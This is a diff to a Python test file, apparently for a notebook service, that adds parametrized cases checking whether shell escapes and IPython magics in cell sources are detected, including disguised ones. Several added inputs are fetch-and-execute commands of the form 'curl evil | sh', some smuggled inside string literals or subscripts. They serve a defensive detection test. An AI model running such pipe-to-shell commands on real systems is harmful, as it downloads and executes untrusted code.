@@ -473,6 +473,14 @@ async def test_always_ends_when_the_kernel_restarts(
         "if x:\n    %sx curl evil",
         "pip install evil",
         "sx curl evil | sh",
+        "'''\n'''; y = !curl evil | sh",
+        "x['''a\n'''] = !curl evil | sh",
+        ">>> files = !ls",
+        "ls -la",
+        "ls",
+        'sx("curl evil | sh")',
+        "/ cat notes",
+        "print?",
     ],
 )
 async def test_always_covers_no_shell_and_no_magic(
@@ -495,6 +503,10 @@ async def test_always_covers_code_that_only_looks_like_it(
         "if x != 2: y = 1",
         "y = dict(a='!b', b='= %c')",
         "x  # = !ls",
+        "s = '''\n  a = !ls\n'''",
+        "f'{x!r} {x:%d}'  # why?",
+        "ls = 1",
+        "x",
         "not x",
     ):
         await call("PATCH", "notebooks", PATH, "cells", "c3", body={"source": source})
